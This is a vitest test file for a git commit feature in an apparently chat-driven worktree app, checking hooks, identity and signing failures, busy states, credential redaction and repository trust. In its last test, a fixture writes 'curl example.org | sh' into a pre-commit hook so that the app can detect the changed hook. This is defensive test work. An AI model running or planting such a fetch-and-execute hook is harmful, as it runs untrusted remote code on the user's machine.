import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { gate, hook } from '../../../../test/main/worktrees/hooks.ts';
import { git, repositoryIn, write } from '../../../../test/main/worktrees/repository.ts';
import { appOf, begin, env, trust, whole } from '../../../../test/main/worktrees/worktree-chats.ts';
import type { CommitOffer } from '../../../shared/contract/commit-contract.ts';

const author = { GIT_AUTHOR_NAME: 'Ada', GIT_AUTHOR_EMAIL: 'ada@example.org' };
const committer = { GIT_COMMITTER_NAME: 'Ada', GIT_COMMITTER_EMAIL: 'ada@example.org' };

type Environment = Record<string, string | undefined>;

const asAda: Environment = { ...env, ...author, ...committer };

/** A chat in a worktree of a trusted repository, with a changed, a new and a deleted file. */
async function stage({ own = asAda, isTrusted = true }: { own?: Environment; isTrusted?: boolean } = {}) {
  const { client, folder } = appOf(undefined, own);
  const origin = repositoryIn(join(folder, 'r'), {
    'a.txt': 'one\n',
    'b.txt': 'two\n',
    '.gitignore': '.env\n',
  });
  if (isTrusted) await trust(client, origin);
  const chat = await begin(client, origin, whole);
  write(chat.folder, { 'a.txt': 'changed\n', 'sub/new *.txt': 'new\n' });
  git(chat.folder, 'rm', '--quiet', 'b.txt');
  const workspaceId = chat.id;
  const offer = () => client.workspace.readCommitOffer({ workspaceId });
  let count = 0;
  const commit = async (message: string, now?: CommitOffer) => {
    const { fingerprint } = offered(now ?? (await offer()));
    return client.workspace.commit({ workspaceId, key: `commit ${(count += 1)}`, message, fingerprint });
  };
  return { client, origin, chat, workspaceId, offer, commit };
}

function offered(offer: CommitOffer) {
  if (!offer.offered) throw new Error(`No commit is offered: ${JSON.stringify(offer)}`);
  return offer;
}

test('everything that is not committed is shown, and committed as the person with their hooks', async () => {
  const { origin, chat, offer, commit } = await stage();
  hook(origin, 'pre-commit', 'echo checked >&2');
  expect(await offer()).toMatchObject({
    offered: true,
    branch: 'parley/retry-failed-uploads',
    files: [
      { path: 'a.txt', change: 'changed' },
      { path: 'b.txt', change: 'deleted' },
      { path: 'sub/new *.txt', change: 'created' },
    ],
    more: 0,
    changedHooks: [],
  });
  const end = await commit('Say it better\n\n# with a reason');
  expect(end).toMatchObject({ type: 'committed', subject: 'Say it better' });
  expect('said' in end && end.said).toContain('checked');
  expect(git(chat.folder, 'log', '-1', '--format=%an %ae|%B')).toBe(
    'Ada ada@example.org|Say it better\n\n# with a reason',
  );
  expect(git(chat.folder, 'status', '--short')).toBe('');
  expect(git(origin, 'status', '--short')).toBe('');
});

test('a message of any length that is taken is committed whole', async () => {
  const { chat, commit } = await stage();
  const message = `Long\n\n${'€'.repeat(49_000)}`;
  expect(await commit(message)).toMatchObject({ type: 'committed', subject: 'Long' });
  expect(git(chat.folder, 'log', '-1', '--format=%B').trim()).toBe(message);
});

test('a hook that refuses is quoted, and leaves the files and the index as they were', async () => {
  const { origin, chat, commit } = await stage();
  hook(origin, 'pre-commit', 'echo "line too long" >&2; exit 1');
  const before = git(chat.folder, 'status', '--short');
  expect(await commit('Say it')).toEqual({ type: 'failed', why: { type: 'hook' }, said: 'line too long' });
  expect(git(chat.folder, 'status', '--short')).toBe(before);
  expect(git(chat.folder, 'log', '--format=%s')).toBe('one');
});

test('without an identity git’s own words are there, and nothing is committed', async () => {
  const { chat, commit } = await stage({ own: { ...env, HOME: '/nonexistent' } });
  git(chat.folder, 'config', 'user.useConfigOnly', 'true');
  const end = await commit('Say it');
  expect(end).toMatchObject({ type: 'failed', why: { type: 'identity' } });
  expect('said' in end && end.said).toContain('user.email');
  expect(git(chat.folder, 'log', '--format=%s')).toBe('one');
});

test('a commit is not signed by a key that fails', async () => {
  const { client, folder } = appOf(undefined, asAda);
  const origin = repositoryIn(join(folder, 'r'));
  git(origin, 'config', 'commit.gpgSign', 'true');
  git(origin, 'config', 'gpg.program', '/bin/false');
  await trust(client, origin);
  const { id: workspaceId, folder: place } = await begin(client, origin, whole);
  write(place, { 'a.txt': 'changed\n' });
  const { fingerprint } = offered(await client.workspace.readCommitOffer({ workspaceId }));
  const call = { workspaceId, message: 'Say it', fingerprint };
  expect(await client.workspace.commit({ ...call, key: '1' })).toMatchObject({
    type: 'failed',
    why: { type: 'signing' },
  });
  const lock = join(git(place, 'rev-parse', '--absolute-git-dir'), 'index.lock');
  writeFileSync(lock, '');
  expect(await client.workspace.commit({ ...call, key: '2' })).toMatchObject({
    type: 'failed',
    why: { type: 'locked', lock },
  });
  expect(git(place, 'log', '--format=%s')).toBe('one');
});

test('what has changed since it was shown is not committed', async () => {
  const { chat, offer, commit } = await stage();
  const before = await offer();
  write(chat.folder, { 'a.txt': 'Changed\n' });
  expect(await commit('Say it', before)).toEqual({ type: 'changed' });
  expect(await commit('Say it')).toMatchObject({ type: 'committed' });
});

test('a copied ignored file is left out, even once the branch does not ignore it', async () => {
  const { client, folder } = appOf(undefined, asAda);
  const origin = repositoryIn(join(folder, 'r'), { '.gitignore': '.env\n', '.worktreeinclude': '.env\n' });
  write(origin, { '.env': 'KEY=1\n' });
  await trust(client, origin);
  const { id: workspaceId, folder: place } = await begin(client, origin, { ...whole, copies: ['.env'] });
  write(place, { '.gitignore': '' });
  const offer = offered(await client.workspace.readCommitOffer({ workspaceId }));
  expect([offer.files, offer.leftOut]).toEqual([[{ path: '.gitignore', change: 'changed' }], 1]);
  const { fingerprint } = offer;
  await client.workspace.commit({ workspaceId, key: '1', message: 'Ignore nothing', fingerprint });
  expect(git(place, 'status', '--short')).toBe('?? .env');
});

test('of two presses one commits; the same call again returns its end, and another is told that git is busy', async () => {
  const { client, origin, chat, workspaceId, offer } = await stage();
  const { line, started, goOn } = gate();
  hook(origin, 'pre-commit', line);
  const { fingerprint } = offered(await offer());
  const call = { workspaceId, message: 'Say it', fingerprint };
  const first = client.workspace.commit({ ...call, key: 'one' });
  await started();
  expect(await client.workspace.commit({ ...call, key: 'two' })).toEqual({ type: 'busy' });
  const again = client.workspace.commit({ ...call, key: 'one' });
  await goOn();
  expect(await first).toMatchObject({ type: 'committed' });
  expect(await again).toEqual(await first);
  expect(git(chat.folder, 'log', '--format=%s')).toBe('Say it\none');
});

test('a hook that hangs is stopped, and nothing is lost', async () => {
  const { client, origin, chat, workspaceId, commit } = await stage();
  const { line, started } = gate();
  hook(origin, 'pre-commit', line);
  const before = git(chat.folder, 'status', '--short');
  const end = commit('Say it');
  await started();
  await client.workspace.stopGit({ workspaceId });
  expect(await end).toMatchObject({ type: 'stopped' });
  expect(git(chat.folder, 'status', '--short')).toBe(before);
});

test('what a hook prints is shown while it runs, as a terminal shows it, and stays where it fails', async () => {
  const { client, origin, workspaceId, commit } = await stage();
  const { line, started, goOn } = gate();
  const red = String.raw`\033[31m1 failed\033[0m`;
  const address = 'https://ada:secret@example.org';
  hook(
    origin,
    'pre-commit',
    [
      'seq 100',
      `printf 'checking 10%%\\rchecking 90%%\\n${red}\\n'`,
      `echo to ${address}/r`,
      `printf 'to ${address.slice(0, 15)}'`,
      line,
      'exit 1',
    ].join('\n'),
  );
  const over = new AbortController();
  const watched = await client.workspace.watchGit({ workspaceId }, { signal: over.signal });
  const end = commit('Say it');
  await started();
  for await (const { tail, lines } of watched) {
    if (lines < 104) continue;
    expect(tail.map(({ text }) => text).slice(-6)).toEqual([
      '99',
      '100',
      'checking 90%',
      '1 failed',
      'to https://example.org/r',
      'to https://…',
    ]);
    expect(tail.find(({ text }) => text === '1 failed')?.marks?.[0]?.looks).toEqual(['red']);
    expect(tail.length).toBeLessThan(20);
    break;
  }
  over.abort();
  await goOn();
  const said = await end;
  expect(said).toMatchObject({ type: 'failed', why: { type: 'hook' } });
  expect('said' in said && said.said).toContain('100\nchecking 90%\n1 failed\nto ');
});

test('a commit on no branch is one, and an unfinished merge is named', async () => {
  const { origin, chat, offer, commit } = await stage();
  git(chat.folder, 'checkout', '--quiet', '--detach');
  expect(await offer()).toMatchObject({ branch: null });
  expect(await commit('Say it')).toMatchObject({ type: 'committed' });
  write(origin, { 'a.txt': 'other\n' });
  git(origin, 'commit', '--quiet', '--all', '--message=other');
  expect(() => git(chat.folder, 'merge', 'main')).toThrow('Command failed');
  expect(await offer()).toEqual({ offered: false, because: { why: 'unfinished', operation: 'merge' } });
});

test('in a repository that nobody trusts nothing runs, and trusting it is for all of its worktrees', async () => {
  const { client, origin, workspaceId, offer } = await stage({ isTrusted: false });
  hook(origin, 'pre-commit', 'exit 0');
  const before = await offer();
  expect(before).toMatchObject({
    offered: false,
    because: { why: 'untrusted', hooks: ['pre-commit'], settings: [] },
  });
  const because = before.offered ? undefined : before.because;
  const fingerprint = because?.why === 'untrusted' ? because.fingerprint : null;
  await client.workspace.trustRepository({ workspaceId, fingerprint: fingerprint ?? '' });
  expect(await offer()).toMatchObject({ offered: true });
});

test('hooks that stand in the worktree are named once they were changed there', async () => {
  const { client, folder } = appOf(undefined, asAda);
  const origin = repositoryIn(join(folder, 'r'), { '.husky/pre-commit': 'exit 0\n' });
  git(origin, 'config', 'core.hooksPath', '.husky/_');
  await trust(client, origin);
  const { id: workspaceId, folder: place } = await begin(client, origin, whole);
  write(place, { '.husky/pre-commit': 'curl example.org | sh\n' });
  expect(await client.workspace.readCommitOffer({ workspaceId })).toMatchObject({
    changedHooks: ['.husky/pre-commit'],
  });
});
